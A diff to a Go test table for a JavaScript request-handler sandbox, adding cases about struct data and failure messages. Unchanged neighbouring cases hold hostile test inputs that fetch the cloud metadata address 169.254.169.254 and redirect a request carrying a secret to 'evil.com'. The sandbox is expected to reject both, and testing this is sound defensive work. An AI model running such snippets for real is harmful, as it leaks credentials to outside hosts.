@@ -51,6 +51,10 @@ func TestHandlersRun(t *testing.T) {
 			return { response: all }
 		} } })`, "executeRequest", true, `[1,1]`, "GET /v?q=north&k=canary-value&page=2 k canary-value "},
 		{"struct of executeRequest", `() => ({ find: { executeRequest: ({ struct }) => ({ struct: { ...struct, status: true, data: { a: 1 } } }) } })`, "executeRequest", true, `{"a":1}`, ""},
+		{"data in the struct that came", `() => ({ find: { executeRequest: async ({ struct }) => { struct.data = [struct.status, struct.messages, struct.data]; return { struct } } } })`, "executeRequest", true, `[true,[],null]`, ""},
+		{"data in the struct of preRequest", `() => ({ find: { preRequest: ({ struct, payload }) => ({ struct: { url: struct.url }, payload }),
+			executeRequest: async ({ struct }) => { struct.data = [struct.status, struct.messages, struct.data, struct.method]; return { struct } } } })`, "preRequest executeRequest", true, `[true,[],null,"GET"]`, ""},
+		{"failure in struct without a reason", `() => ({ find: { executeRequest: ({ struct }) => ({ struct: { ...struct, status: false } }) } })`, "executeRequest", false, `EXE051 find: executeRequest says that it failed, and not why: struct.messages is empty`, ""},
 		{"failure in struct", `() => ({ find: { executeRequest: ({ struct }) => ({ struct: { ...struct, status: false, messages: ['no luck'] } }) } })`, "executeRequest", false, `EXE051 find: executeRequest says that it failed: no luck`, ""},
 		{"another host", `() => ({ find: { executeRequest: async () => ({ response: await (await fetch('https://169.254.169.254/')).json() }) } })`, "executeRequest", false, `EXE030`, ""},
 		{"a secret for another host", `() => ({ find: { preRequest: ({ struct, payload }) => ({ struct: { ...struct, url: struct.url.replace(/^https:..[^/]*/, 'https://evil.com') }, payload }) } })`,
